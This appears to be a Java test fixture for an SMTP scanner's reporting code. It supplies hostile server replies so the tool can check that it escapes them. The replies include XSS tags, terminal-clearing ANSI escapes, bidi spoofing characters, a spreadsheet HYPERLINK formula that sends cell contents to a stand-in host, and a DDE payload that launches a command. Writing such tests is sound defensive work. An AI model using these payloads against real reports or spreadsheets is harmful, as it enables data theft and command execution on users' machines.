package io.ehloscope.report;

import io.ehloscope.classify.Assessment;
import io.ehloscope.classify.Confidence;
import io.ehloscope.classify.ExemptVerb;
import io.ehloscope.classify.Exemption;
import io.ehloscope.classify.Product;
import io.ehloscope.classify.Verdict;
import io.ehloscope.evidence.Failure;
import io.ehloscope.evidence.ProbeOutcome;
import io.ehloscope.evidence.Reason;
import io.ehloscope.evidence.Stage;
import io.ehloscope.result.ScanResult;
import io.ehloscope.result.TargetResult;
import io.ehloscope.scan.SampleDialogue;
import io.ehloscope.scan.SampleResults;
import java.util.List;
import java.util.Map;

/** Results with text of hostile servers. */
public final class HostileResults {

    /** ANSI sequences that clear the screen and set the colour. */
    static final String ANSI = "\u001b[2J\u001b[31mowned\u001b[0m\u009b31m";

    /** A script, the end of an attribute, an entity, the end of a comment, a template tag. */
    public static final String HTML = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>&amp;-->{{source}}";

    /** NUL, backspaces, bells, line ends of all kinds. */
    static final String CONTROLS = "a\u0000b\b\b\u0007c\r\nd\u0085e\u2028f\u2029g\th";

    /** Bidirectional overrides, invisible and joining characters. */
    static final String BIDI = "moc.\u202eelpmaxe\u202c\u200b\u2066x\u2069\ufeff\u00ad";

    /** Wide, combining and supplementary characters, and an unpaired surrogate. */
    static final String WIDTHS = "日本語 e\u0301\u0301 \ud83d\udce7 \ud800 한국어 ＝1+1";

    /** A spreadsheet formula. */
    static final String FORMULA = "=HYPERLINK(\"http://192.0.2.66/?\"&A1,\"click\")";

    private HostileResults() {}

    /** Returns a scan with these results. */
    public static ScanResult scan() {
        return SampleResults.of(
                "fleet<b>.yaml",
                List.of(
                        refused("ansi", ANSI),
                        refused("html", HTML),
                        refused("controls", CONTROLS),
                        refused("bidi", BIDI),
                        refused("widths", WIDTHS),
                        refused("formula", FORMULA),
                        refused("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
                        refused("tab", "\t=1+1"),
                        refused("long", "A".repeat(2_000) + " " + "<&>".repeat(700)),
                        verbs()));
    }

    private static TargetResult refused(String name, String text) {
        SampleDialogue dialogue =
                new SampleDialogue().connect("192.0.2.66", 25, 1_000).greeting(2_000, "554-" + text, "554 " + text);
        return SampleResults.failed(
                SampleResults.target(name + ".example.com", 25, "evil", Map.of("note", text)),
                Verdict.REFUSED,
                new Failure(Stage.GREETING, Reason.REJECTED_PERMANENTLY, text, 554, null),
                dialogue.observation(),
                1);
    }

    private static TargetResult verbs() {
        SampleDialogue dialogue = new SampleDialogue()
                .connect("192.0.2.67", 25, 1_000)
                .greeting(2_000, "220 " + HTML)
                .ehlo(3_000, "250-x " + ANSI, "250-SIZE " + HTML, "250-AUTH " + FORMULA + " " + BIDI, "250 X" + HTML);
        return SampleResults.result(
                SampleResults.target("verbs.example.com", 25, "<i>site</i>", Map.of()),
                new ProbeOutcome.Answered(dialogue.observation()),
                new Assessment(
                        Verdict.PARTIAL,
                        List.of(HTML, ANSI),
                        "<profile>",
                        new Product("exim", "Exim", "4.9" + ANSI, "exim", Product.Family.OTHER, Confidence.CERTAIN),
                        List.of("A", HTML),
                        0,
                        List.of(ANSI),
                        List.of(CONTROLS),
                        List.of(new ExemptVerb(new Exemption("A", HTML + ANSI, null), "A", false)),
                        Map.of(),
                        List.of()),
                1,
                5);
    }
}
